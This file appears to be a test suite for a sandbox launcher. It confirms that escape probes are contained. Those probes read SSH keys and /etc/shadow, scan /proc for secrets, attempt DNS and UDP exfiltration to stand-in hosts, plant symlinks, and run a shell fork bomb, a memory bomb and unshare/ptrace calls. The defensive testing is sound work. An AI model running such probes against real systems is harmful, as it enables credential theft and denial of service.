// Escapes and abuse from inside the kernel sandbox, each one asserted contained, with a control
// showing the same probe works where it should (so no test passes because the probe itself broke).
// Probes are small `node -e` programs or `/bin/sh -c` scripts run with spawnSandboxed, as root
// (the machine and CI run tests as root: the sandbox drops to an unprivileged uid with setpriv).

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import {
  chmodSync,
  chownSync,
  closeSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { spawnSandboxed, PROXY_PORT } from '../../src/sandbox/launcher.js';
import { SandboxProfileSchema, hostAllowed } from '../../src/sandbox/profile.js';
import { sandboxSupport } from '../../src/sandbox/probe.js';
import type { ConnectAttempt, ConnectDecider } from '../../src/sandbox/proxy.js';
import { openBeneath } from '../../src/sandbox/paths.js';
import { WardenError } from '../../src/errors.js';

const NODE = process.execPath;
const MARKER = `warden-escape-${randomBytes(8).toString('hex')}`;
const ENV = { PATH: '/usr/local/bin:/usr/bin:/bin' };
const ROOT = process.getuid?.() === 0;
/** Fixed sandbox uids (runAs), one per test that needs to know it; far from real users. */
const UID = { write: 1_999_000_101, symlink: 1_999_000_102, fork: 1_999_000_103 } as const;

interface Run {
  code: number | null;
  signal: NodeJS.Signals | null;
  stdout: string;
  stderr: string;
  ms: number;
  timedOut: boolean;
}

interface RunOptions {
  profile?: unknown;
  hide?: string[];
  env?: Record<string, string>;
  cwd?: string;
  decideConnect?: ConnectDecider;
  timeoutMs?: number;
  /** Called once the sandbox runs, with its outermost pid (bwrap's, after prlimit and setpriv exec). */
  started?: (pid: number) => void;
}

const MAX_OUTPUT = 256 * 1024;

/** Run argv in a sandbox; collect output (bounded) and how it ended, killing it after timeoutMs. */
async function sandboxed(argv: string[], o: RunOptions = {}): Promise<Run> {
  const t0 = Date.now();
  const sandbox = await spawnSandboxed({
    name: 'escape-probe',
    argv,
    env: o.env ?? ENV,
    ...(o.cwd ? { cwd: o.cwd } : {}),
    profile: SandboxProfileSchema.parse(o.profile ?? {}),
    hide: o.hide ?? [],
    ...(o.decideConnect ? { decideConnect: o.decideConnect } : {}),
  });
  const { child } = sandbox;
  let stdout = '';
  let stderr = '';
  child.stdout?.on('data', (b: Buffer) => {
    if (stdout.length < MAX_OUTPUT) stdout += b.toString('utf8');
  });
  child.stderr?.on('data', (b: Buffer) => {
    if (stderr.length < MAX_OUTPUT) stderr += b.toString('utf8');
  });
  child.stdin?.end();
  if (child.pid !== undefined) o.started?.(child.pid);
  let timedOut = false;
  const timer = setTimeout(() => {
    timedOut = true;
    child.kill('SIGKILL');
  }, o.timeoutMs ?? 15_000);
  const [code, signal] = await new Promise<[number | null, NodeJS.Signals | null]>((resolve) =>
    child.once('close', (c, s) => resolve([c, s])),
  );
  clearTimeout(timer);
  await sandbox.cleanup();
  return { code, signal, stdout, stderr, ms: Date.now() - t0, timedOut };
}

/** Run a Node program in the sandbox; it prints one JSON line, returned parsed with the run. */
async function nodeProbe<T>(code: string, o: RunOptions = {}): Promise<{ out: T; run: Run }> {
  const run = await sandboxed([NODE, '-e', code], o);
  const line = run.stdout.trim().split('\n').at(-1) ?? '';
  try {
    return { out: JSON.parse(line) as T, run };
  } catch {
    assert.fail(`probe printed no JSON (exit ${run.code}, ${run.signal}):\n${run.stdout}\n${run.stderr}`);
  }
}

function sh(script: string, o: RunOptions = {}): Promise<Run> {
  return sandboxed(['/bin/sh', '-c', script], o);
}

/** A Node snippet: try fn, give its result or the error code. */
const TRY = `const t=(f)=>{try{return {ok:true,v:f()}}catch(e){return {ok:false,code:e.code||String(e)}}};`;
const TRYA = `const ta=async(f)=>{try{return {ok:true,v:await f()}}catch(e){return {ok:false,code:(e.cause&&e.cause.code)||e.code||String(e)}}};`;

function uidProcesses(uid: number): number[] {
  const pids: number[] = [];
  for (const p of readdirSync('/proc')) {
    if (!/^\d+$/.test(p)) continue;
    try {
      const status = readFileSync(`/proc/${p}/status`, 'utf8');
      const m = /^Uid:\s+(\d+)/m.exec(status);
      // A zombie has ended: only its exit status waits for a parent (this machine's pid 1) to reap it.
      if (m && Number(m[1]) === uid && !/^State:\s+Z/m.test(status)) pids.push(Number(p));
    } catch {
      // gone
    }
  }
  return pids;
}

async function waitFor(cond: () => boolean, ms: number): Promise<boolean> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (cond()) return true;
    await new Promise((r) => setTimeout(r, 50));
  }
  return cond();
}

/** The host stays responsive: a process starts and ends promptly. */
function hostResponsive(): number {
  const t0 = Date.now();
  const r = spawnSync('/bin/true', { timeout: 5000 });
  assert.equal(r.status, 0, 'the host can still start a process');
  return Date.now() - t0;
}

const cleanups: Array<() => void> = [];
after(() => {
  for (const c of cleanups.reverse()) c();
});

function tempDir(parent: string, prefix: string): string {
  const d = mkdtempSync(join(parent, prefix));
  cleanups.push(() => rmSync(d, { recursive: true, force: true }));
  return d;
}

interface HttpTarget {
  server: Server;
  port: number;
  hits: number;
}

async function httpServer(body: string): Promise<HttpTarget> {
  const t: HttpTarget = { server: createServer(), port: 0, hits: 0 };
  t.server.on('request', (_req, res) => {
    t.hits++;
    res.end(body);
  });
  await new Promise<void>((r) => t.server.listen(0, '127.0.0.1', r));
  t.port = (t.server.address() as AddressInfo).port;
  cleanups.push(() => t.server.close());
  return t;
}

/** A decider that allows exactly the allowlist and records every attempt. */
function allowlistDecider(allow: string[]): { decide: ConnectDecider; seen: ConnectAttempt[] } {
  const seen: ConnectAttempt[] = [];
  return {
    seen,
    decide: (a) => {
      seen.push(a);
      const ok = hostAllowed(allow, a.host, a.port);
      return Promise.resolve({
        allow: ok,
        reason: ok ? 'allowlisted' : `${a.host}:${a.port} is not allowlisted`,
      });
    },
  };
}

/** Node code: a raw request through the in-sandbox proxy bridge; prints the status line and body. */
function rawProxy(request: string): string {
  return `const s=require('net').connect(${PROXY_PORT},'127.0.0.1');let d='';
s.on('connect',()=>s.write(${JSON.stringify(request)}));s.on('data',b=>{d+=b});
s.on('error',e=>{console.log(JSON.stringify({error:e.code}))});
s.on('close',()=>{if(d)console.log(JSON.stringify({status:d.split('\\r\\n')[0],body:d.split('\\r\\n\\r\\n').slice(1).join('')}))});`;
}

before(() => {
  const s = sandboxSupport();
  const missing = s.items.filter((i) => !i.ok && (i.required || i.name.startsWith('socat')));
  assert.deepEqual(
    missing.map((i) => `${i.name}: ${i.detail}`),
    [],
    'this machine must provide the sandbox (CI installs bubblewrap, socat, util-linux)',
  );
  assert.ok(ROOT, 'these tests run as root, as CI does (the sandbox then drops to an unprivileged uid)');
});

test('1. ~/.ssh/id_rsa under /root and /home is not visible inside', async () => {
  let madeSsh = false;
  if (!existsSync('/root/.ssh')) {
    mkdirSync('/root/.ssh', { mode: 0o700 });
    madeSsh = true;
  }
  const rootKey = `/root/.ssh/warden-test-id_rsa-${MARKER}`;
  writeFileSync(rootKey, `-----BEGIN OPENSSH PRIVATE KEY----- ${MARKER}\n`, { mode: 0o600 });
  cleanups.push(() =>
    madeSsh ? rmSync('/root/.ssh', { recursive: true }) : rmSync(rootKey, { force: true }),
  );
  const home = tempDir('/home', 'warden-test-');
  mkdirSync(join(home, '.ssh'));
  chmodSync(home, 0o755);
  const homeKey = join(home, '.ssh', 'id_rsa');
  // World-readable: only the mount namespace stands between the sandbox and the key.
  writeFileSync(homeKey, `key ${MARKER}\n`, { mode: 0o644 });
  chmodSync(join(home, '.ssh'), 0o755);

  assert.match(readFileSync(rootKey, 'utf8'), new RegExp(MARKER), 'control: the host reads the key');
  assert.match(readFileSync(homeKey, 'utf8'), new RegExp(MARKER), 'control: the host reads the key');
  const { out, run } = await nodeProbe<Record<string, { ok: boolean; code?: string }>>(
    `${TRY} const fs=require('fs');console.log(JSON.stringify({root:t(()=>fs.readFileSync(${JSON.stringify(rootKey)},'utf8')),
     home:t(()=>fs.readFileSync(${JSON.stringify(homeKey)},'utf8')),homeList:t(()=>fs.readdirSync('/home')),rootList:t(()=>fs.readdirSync('/root'))}))`,
  );
  assert.deepEqual(out['root'], { ok: false, code: 'ENOENT' });
  assert.deepEqual(out['home'], { ok: false, code: 'ENOENT' });
  assert.deepEqual(out['homeList'], { ok: true, v: [] }, '/home is an empty tmpfs inside');
  assert.deepEqual(out['rootList'], { ok: true, v: [] }, '/root is an empty tmpfs inside');
  assert.ok(!run.stdout.includes(MARKER) && !run.stderr.includes(MARKER));
});

test('2. /etc/shadow reads as empty inside, never the host content', async () => {
  const host = readFileSync('/etc/shadow', 'utf8');
  assert.match(host, /^root:/m, 'control: the host has a shadow file');
  const { out, run } = await nodeProbe<{ ok: boolean; v?: string; code?: string }>(
    `${TRY} console.log(JSON.stringify(t(()=>require('fs').readFileSync('/etc/shadow','utf8'))))`,
  );
  assert.ok(out.ok ? out.v === '' : ['EACCES', 'ENOENT'].includes(out.code ?? ''), JSON.stringify(out));
  assert.doesNotMatch(run.stdout, /root:/);
  const gshadow = await sh('cat /etc/gshadow /etc/shadow- 2>&1; echo end');
  assert.doesNotMatch(gshadow.stdout, /root:/);
});

test("3. Warden's data directory and keys are hidden; the host's /tmp is not the sandbox's", async () => {
  const dataDir = tempDir('/var/lib', 'warden-escape-data-');
  chmodSync(dataDir, 0o755);
  mkdirSync(join(dataDir, 'keys'), { mode: 0o755 });
  writeFileSync(join(dataDir, 'keys', 'issuer.jwk'), MARKER, { mode: 0o644 });
  writeFileSync(join(dataDir, 'warden.yaml'), MARKER, { mode: 0o644 });
  const tmpData = tempDir(tmpdir(), 'warden-escape-data-');
  chmodSync(tmpData, 0o755);
  writeFileSync(join(tmpData, 'key'), MARKER, { mode: 0o644 });
  const probe = `${TRY} const fs=require('fs');console.log(JSON.stringify({list:t(()=>fs.readdirSync(${JSON.stringify(dataDir)})),
    key:t(()=>fs.readFileSync(${JSON.stringify(join(dataDir, 'keys', 'issuer.jwk'))},'utf8')),
    tmp:t(()=>fs.readFileSync(${JSON.stringify(join(tmpData, 'key'))},'utf8'))}))`;
  type Out = Record<'list' | 'key' | 'tmp', { ok: boolean; v?: unknown; code?: string }>;

  const control = await nodeProbe<Out>(probe);
  assert.deepEqual(control.out.key, { ok: true, v: MARKER }, 'control: not hidden, the sandbox reads it');
  const { out, run } = await nodeProbe<Out>(probe, { hide: [dataDir] });
  assert.deepEqual(out.list, { ok: true, v: [] }, 'the data directory is an empty tmpfs inside');
  assert.deepEqual(out.key, { ok: false, code: 'ENOENT' });
  assert.deepEqual(out.tmp, { ok: false, code: 'ENOENT' }, 'the private /tmp has none of the host /tmp');
  assert.deepEqual(control.out.tmp, { ok: false, code: 'ENOENT' });
  assert.ok(!run.stdout.includes(MARKER));
});

test('4. writes outside the allowed directory fail; /tmp is private; filesystem.write works', async () => {
  const writable = tempDir('/var/lib', 'warden-escape-w-');
  chmodSync(writable, 0o755);
  chownSync(writable, UID.write, UID.write);
  const cwd = tempDir('/var/lib', 'warden-escape-cwd-');
  chmodSync(cwd, 0o777); // open to every user on the host: only the read-only mount refuses
  const name = `${MARKER}.txt`;
  const targets = { usr: `/usr/${name}`, etc: `/etc/${name}`, cwd: join(cwd, name), tmp: `/tmp/${name}` };
  const { out } = await nodeProbe<Record<string, { ok: boolean; code?: string }>>(
    `${TRY} const fs=require('fs');const r={};for(const [k,p] of Object.entries(${JSON.stringify(targets)}))r[k]=t(()=>fs.writeFileSync(p,'x'));
     r.rel=t(()=>fs.writeFileSync(${JSON.stringify(name)},'x'));r.allowed=t(()=>fs.writeFileSync(${JSON.stringify(join(writable, name))},${JSON.stringify(MARKER)}));
     r.uid={ok:true,code:String(process.getuid())};console.log(JSON.stringify(r))`,
    { cwd, profile: { filesystem: { write: [writable] }, runAs: UID.write } },
  );
  for (const k of ['usr', 'etc', 'cwd', 'rel'])
    assert.ok(
      !out[k]?.ok && ['EROFS', 'EACCES'].includes(out[k]?.code ?? ''),
      `${k}: ${JSON.stringify(out[k])}`,
    );
  assert.equal(out['tmp']?.ok, true, 'the private /tmp is writable');
  assert.equal(existsSync(`/tmp/${name}`), false, "and the file is not in the host's /tmp");
  assert.equal(existsSync(targets.usr) || existsSync(targets.etc) || existsSync(targets.cwd), false);
  assert.equal(out['allowed']?.ok, true, JSON.stringify(out['allowed']));
  assert.equal(readFileSync(join(writable, name), 'utf8'), MARKER, 'the host sees the write');
  assert.equal(out['uid']?.code, String(UID.write));
});

test('5. only allowlisted destinations are reachable, through the proxy only', async () => {
  const allowed = await httpServer(`allowed ${MARKER}`);
  const other = await httpServer('other');
  const allow = [`127.0.0.1:${allowed.port}`];
  const d = allowlistDecider(allow);
  const fetches = `${TRYA} (async()=>{const f=async(p)=>{const r=await fetch('http://127.0.0.1:'+p+'/');return r.status+' '+await r.text()};
    const direct=(p)=>new Promise(r=>{const s=require('net').connect(p,'127.0.0.1');s.on('connect',()=>{s.destroy();r({ok:true})});s.on('error',e=>r({ok:false,code:e.code}))});
    console.log(JSON.stringify({a:await ta(()=>f(${allowed.port})),b:await ta(()=>f(${other.port})),
    directA:await direct(${allowed.port}),directB:await direct(${other.port})}))})()`;
  type Out = Record<'a' | 'b' | 'directA' | 'directB', { ok: boolean; v?: string; code?: string }>;
  const { out } = await nodeProbe<Out>(fetches, { profile: { network: { allow } }, decideConnect: d.decide });
  assert.deepEqual(
    out.a,
    { ok: true, v: `200 allowed ${MARKER}` },
    'control: the allowlisted server answers',
  );
  assert.equal(out.b.ok, false, JSON.stringify(out.b));
  assert.ok(
    d.seen.some((a) => a.host === '127.0.0.1' && a.port === other.port),
    'the decider was asked about the other port',
  );
  assert.equal(other.hits, 0, 'the other server got no request');
  assert.deepEqual(out.directA, { ok: false, code: 'ECONNREFUSED' }, 'the sandbox has its own loopback');
  assert.deepEqual(out.directB, { ok: false, code: 'ECONNREFUSED' });

  const raw = await nodeProbe<{ status: string; body: string }>(
    rawProxy(
      `GET http://127.0.0.1:${other.port}/ HTTP/1.1\r\nHost: 127.0.0.1:${other.port}\r\nConnection: close\r\n\r\n`,
    ),
    { profile: { network: { allow } }, decideConnect: d.decide },
  );
  assert.match(raw.out.status, /^HTTP\/1\.1 403 /);
  assert.match(raw.out.body, /is not allowlisted/);
  assert.equal(other.hits, 0);

  const hitsBefore = allowed.hits;
  const none = await nodeProbe<Out>(fetches);
  assert.equal(none.out.a.ok, false, `no network: ${JSON.stringify(none.out.a)}`);
  assert.equal(none.out.b.ok, false);
  assert.equal(none.out.directA.ok, false);
  assert.equal(none.out.directB.ok, false);
  assert.equal(allowed.hits, hitsBefore, 'nothing reached the host');
});

test("6. Warden's own loopback ports are unreachable, also through a name resolving to loopback", async () => {
  // A stand-in for the gateway (the real one is exercised in test/e2e/sandbox-gateway.test.ts).
  const warden = await httpServer('warden');
  const d = allowlistDecider([`localhost:${warden.port}`]);
  const profile = { network: { allow: [`localhost:${warden.port}`] } };
  const { out } = await nodeProbe<Record<string, { ok: boolean; code?: string }>>(
    `${TRYA} (async()=>{const direct=(p)=>new Promise(r=>{const s=require('net').connect(p,'127.0.0.1');s.on('connect',()=>{s.destroy();r({ok:true})});s.on('error',e=>r({ok:false,code:e.code}))});
    console.log(JSON.stringify({direct:await direct(${warden.port}),ip:await ta(()=>fetch('http://127.0.0.1:${warden.port}/').then(r=>r.status)),
    name:await ta(()=>fetch('http://localhost:${warden.port}/').then(r=>r.status))}))})()`,
    { profile, decideConnect: d.decide },
  );
  assert.deepEqual(out['direct'], { ok: false, code: 'ECONNREFUSED' });
  assert.equal(out['ip']?.ok, false, `the address is not allowlisted: ${JSON.stringify(out['ip'])}`);
  assert.equal(out['name']?.ok, false, `the name resolves to loopback: ${JSON.stringify(out['name'])}`);
  // The allowlisted name passes the decider and is still refused by the proxy itself.
  const raw = await nodeProbe<{ status: string; body: string }>(
    rawProxy(`CONNECT localhost:${warden.port} HTTP/1.1\r\nHost: localhost:${warden.port}\r\n\r\n`),
    { profile, decideConnect: d.decide },
  );
  assert.match(raw.out.status, /^HTTP\/1\.1 502 /);
  assert.match(raw.out.body, /localhost resolves to a local address/);
  assert.ok(d.seen.some((a) => a.host === 'localhost' && a.port === warden.port));
  assert.ok(d.seen.some((a) => a.host === '127.0.0.1' && a.port === warden.port));
  assert.equal(warden.hits, 0, 'nothing reached the stand-in');
});

test('7. no DNS or UDP leaves the sandbox; the proxy refuses a name before resolving it', async () => {
  const listener = createSocket('udp4');
  let received = 0;
  listener.on('message', () => received++);
  await new Promise<void>((r) => listener.bind(0, '127.0.0.1', r));
  cleanups.push(() => listener.close());
  const port = listener.address().port;
  // Control: a datagram from the host reaches the listener.
  const sender = createSocket('udp4');
  await new Promise<void>((r, j) => sender.send('control', port, '127.0.0.1', (e) => (e ? j(e) : r())));
  sender.close();
  assert.ok(await waitFor(() => received === 1, 2000), 'control: the listener receives');

  const { out } = await nodeProbe<Record<string, { ok: boolean; code?: string }>>(
    `${TRYA} (async()=>{const dg=require('dgram');const send=(h,p)=>new Promise(r=>{const s=dg.createSocket('udp4');
     s.send(${JSON.stringify(MARKER)},p,h,e=>{s.close();r(e?{ok:false,code:e.code}:{ok:true})})});
     console.log(JSON.stringify({dns:await ta(()=>require('dns').promises.lookup('exfil-${MARKER}.example.com')),
     resolver:await ta(()=>new (require('dns').promises.Resolver)().resolve4('exfil2-${MARKER}.example.com')),
     google:await send('8.8.8.8',53),local:await send('127.0.0.1',${port})}))})()`,
  );
  assert.equal(out['dns']?.ok, false, JSON.stringify(out['dns']));
  assert.equal(out['resolver']?.ok, false, JSON.stringify(out['resolver']));
  assert.deepEqual(out['google'], { ok: false, code: 'ENETUNREACH' });
  await new Promise((r) => setTimeout(r, 300));
  assert.equal(received, 1, "the sandbox's 127.0.0.1 is its own: the host listener got nothing");

  const d = allowlistDecider(['api.example.com:443']);
  const name = `exfil-${MARKER}.example.com`;
  const raw = await nodeProbe<{ status: string; body: string }>(
    rawProxy(`CONNECT ${name}:443 HTTP/1.1\r\nHost: ${name}:443\r\n\r\n`),
    { profile: { network: { allow: ['api.example.com:443'] } }, decideConnect: d.decide },
  );
  assert.match(raw.out.status, /^HTTP\/1\.1 403 /, 'refused on the name (a resolution failure would be 502)');
  assert.deepEqual(d.seen, [{ host: name, port: 443, via: 'CONNECT' }], 'the decider saw the name as asked');
});

test("8. /proc shows neither the parent's environment nor the host's processes", async () => {
  process.env['WARDEN_TEST_SECRET'] = MARKER;
  cleanups.push(() => delete process.env['WARDEN_TEST_SECRET']);
  // A host process carrying the marker in its environment and command line.
  const holder = spawn(NODE, ['-e', 'setTimeout(()=>{},60000)', `holder-${MARKER}`], {
    env: { ...process.env },
    stdio: 'ignore',
  });
  cleanups.push(() => holder.kill('SIGKILL'));
  const hp = holder.pid as number;
  assert.ok(await waitFor(() => readFileSync(`/proc/${hp}/cmdline`, 'utf8').includes(MARKER), 3000));
  assert.match(readFileSync(`/proc/${hp}/environ`, 'utf8'), new RegExp(MARKER), 'control: the host sees it');

  const { out, run } = await nodeProbe<{ found: boolean; pids: Record<string, string>; self: boolean }>(
    // The marker reversed: the probe's own command line must not contain it.
    `const fs=require('fs');const M=${JSON.stringify([...MARKER].reverse().join(''))}.split('').reverse().join('');let found=false;const pids={};
     const rd=(p)=>{try{return fs.readFileSync(p,'latin1')}catch(e){return ''}};
     for(const f of ['/proc/1/environ','/proc/self/environ','/proc/1/cmdline'])if(rd(f).includes(M))found=true;
     for(const p of fs.readdirSync('/proc').filter(p=>/^\\d+$/.test(p))){const c=rd('/proc/'+p+'/cmdline');pids[p]=c.split('\\0').join(' ');
       if(c.includes(M)||rd('/proc/'+p+'/environ').includes(M))found=true;}
     console.log(JSON.stringify({found,pids,self:rd('/proc/self/environ').includes('PATH=')}))`,
    { env: { PATH: ENV.PATH } },
  );
  assert.equal(out.self, true, 'control: the probe reads its own environment');
  assert.equal(out.found, false, 'the marker is nowhere in /proc');
  const cmdlines = Object.values(out.pids);
  assert.ok(cmdlines.length <= 4, `only the sandbox's own processes: ${JSON.stringify(out.pids)}`);
  assert.ok(
    cmdlines.every((c) => /^(\S*\/)?bwrap /.test(c) || c.startsWith(`${NODE} -e `)),
    JSON.stringify(out.pids),
  );
  assert.ok(!cmdlines.some((c) => c.includes('--test')), 'not the test runner');
  assert.ok(!run.stdout.includes(MARKER) && !run.stderr.includes(MARKER));
});

test('9. a fork bomb is bounded by limits.processes and dies entirely when killed', async () => {
  const uid = UID.fork;
  assert.deepEqual(uidProcesses(uid), [], 'no process of the uid before');
  let pid = 0;
  // dash refuses `:` as a function name; each level keeps a sleep alive so the bomb persists. The
  // top shell starts the bomb once and becomes a sleep itself: were it to need a fork of its own
  // after the limit is reached, it would exit and take the whole sandbox down with it.
  const done = sh('b(){ b|b& sleep 30; }; b & exec sleep 30', {
    profile: { limits: { processes: 32 }, runAs: uid },
    started: (p) => (pid = p),
    timeoutMs: 30_000,
  });
  await new Promise((r) => setTimeout(r, 2000));
  const during = uidProcesses(uid).length;
  assert.ok(during > 1, `control: the bomb runs (${during} processes of uid ${uid})`);
  assert.ok(during <= 40, `bounded by RLIMIT_NPROC 32: ${during}`);
  const ms = hostResponsive();
  assert.ok(ms < 2000, `the host starts a process in ${ms} ms`);
  process.kill(pid, 'SIGKILL');
  const run = await done;
  assert.notEqual(run.code, 0);
  assert.ok(
    await waitFor(() => uidProcesses(uid).length === 0, 5000),
    `processes of uid ${uid} remain: ${uidProcesses(uid).join(',')}`,
  );
});

test('10. a memory bomb dies under limits.memoryMb and the host is fine', async () => {
  const run = await sandboxed(
    [NODE, '-e', `console.log('started');const a=[];for(;;)a.push(Buffer.alloc(1<<20,1))`],
    { profile: { limits: { memoryMb: 128 } }, timeoutMs: 20_000 },
  );
  assert.match(run.stdout, /started/, `control: node starts under the limit: ${run.stderr.slice(0, 500)}`);
  assert.equal(run.timedOut, false, 'it died by itself');
  assert.ok(run.code !== 0 || run.signal !== null, `exit ${run.code} ${run.signal}`);
  assert.ok(run.ms < 15_000, `died in ${run.ms} ms`);
  hostResponsive();
});

test('11. an infinite loop is killed by limits.cpuSeconds', async () => {
  const run = await sandboxed([NODE, '-e', `console.log('started');for(;;){}`], {
    profile: { limits: { cpuSeconds: 1 } },
    timeoutMs: 20_000,
  });
  assert.match(run.stdout, /started/);
  assert.equal(run.timedOut, false, 'it was killed by the limit, not by the test');
  assert.ok(run.code !== 0 || run.signal !== null, `exit ${run.code} ${run.signal}`);
  assert.ok(run.ms < 6000, `killed in ${run.ms} ms`);
});

test('12. a symlink planted in a shared directory is refused by openBeneath', async () => {
  const secretDir = tempDir('/var/lib', 'warden-escape-keys-');
  writeFileSync(join(secretDir, 'issuer.key'), MARKER, { mode: 0o600 });
  const shared = tempDir('/var/lib', 'warden-escape-shared-');
  chmodSync(shared, 0o755);
  chownSync(shared, UID.symlink, UID.symlink);
  const run = await sandboxed(
    [
      '/bin/sh',
      '-c',
      'cd "$1" && ln -s /etc/shadow shadow && ln -s "$2/issuer.key" key && ln -s /etc etc && ' +
        'mkdir sub && ln -s ../../.. sub/up && echo hello > ok.txt',
      'sh',
      shared,
      secretDir,
    ],
    { profile: { filesystem: { write: [shared] }, runAs: UID.symlink }, hide: [secretDir] },
  );
  assert.equal(run.code, 0, run.stderr);

  const ok = openBeneath(shared, 'ok.txt');
  try {
    assert.equal(readFileSync(ok.fd, 'utf8'), 'hello\n', 'control: a regular file opens');
    assert.equal(ok.realPath, join(shared, 'ok.txt'));
  } finally {
    closeSync(ok.fd);
  }
  const refused = (rel: string, why: RegExp): void =>
    assert.throws(
      () => openBeneath(shared, rel),
      (e: unknown) => e instanceof WardenError && e.code === 'path_refused' && why.test(e.message),
      rel,
    );
  refused('shadow', /`shadow` is a symlink/);
  refused('key', /`key` is a symlink/);
  refused('etc/shadow', /`etc` is not a directory \(or is a symlink\)/);
  refused('sub/up/etc/passwd', /`sub\/up` is not a directory/);
  refused('../etc/shadow', /contains `\.\.`/);
  refused('/etc/shadow', /is absolute/);
  refused('sub', /not a regular file/);
});

test('13. seccomp refuses unshare, mount and ptrace inside', async () => {
  const control = spawnSync('unshare', ['--user', '/bin/true'], { encoding: 'utf8' });
  assert.equal(control.status, 0, `control: unshare works on the host: ${control.stderr}`);
  const u = await sh('unshare --user /bin/true');
  assert.notEqual(u.code, 0);
  assert.match(u.stderr, /Operation not permitted/);

  const python = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : undefined;
  if (!python) {
    const m = await sh('mkdir /tmp/m && mount -t tmpfs none /tmp/m');
    assert.notEqual(m.code, 0, 'mount fails');
    return;
  }
  const code = [
    'import ctypes, os',
    'l = ctypes.CDLL(None, use_errno=True)',
    "r = l.mount(b'none', b'/tmp', b'tmpfs', 0, None)",
    "print('mount', r, os.strerror(ctypes.get_errno()))",
    'r = l.ptrace(0, 0, None, None)',
    "print('ptrace', r, os.strerror(ctypes.get_errno()) if r else 'ok')",
  ].join('\n');
  const host = spawnSync(python, ['-c', code.replace(/^r = l\.mount.*\n.*\n/m, '')], { encoding: 'utf8' });
  assert.match(
    host.stdout,
    /^ptrace 0 ok$/m,
    `control: ptrace(PTRACE_TRACEME) works on the host: ${host.stderr}`,
  );
  const inside = await sandboxed([python, '-c', code]);
  assert.match(inside.stdout, /^mount -1 Operation not permitted$/m, inside.stderr);
  assert.match(inside.stdout, /^ptrace -1 Operation not permitted$/m, inside.stderr);
  if (existsSync('/usr/bin/strace')) {
    const s = await sh('strace -f /bin/true');
    assert.notEqual(s.code, 0);
    assert.match(s.stderr, /Operation not permitted/);
  }
});

test('14. no capabilities and no root inside', async () => {
  const { out } = await nodeProbe<{ cap: Record<string, string>; uid: number; gid: number }>(
    `const s=require('fs').readFileSync('/proc/self/status','utf8');const cap={};
     for(const k of ['CapInh','CapPrm','CapEff','CapBnd','CapAmb'])cap[k]=new RegExp('^'+k+':\\\\s+(\\\\w+)','m').exec(s)[1];
     console.log(JSON.stringify({cap,uid:process.getuid(),gid:process.getgid()}))`,
  );
  assert.equal(out.cap['CapEff'], '0000000000000000');
  assert.equal(out.cap['CapPrm'], '0000000000000000');
  assert.equal(out.cap['CapAmb'], '0000000000000000');
  assert.notEqual(out.uid, 0);
  assert.notEqual(out.gid, 0);
});
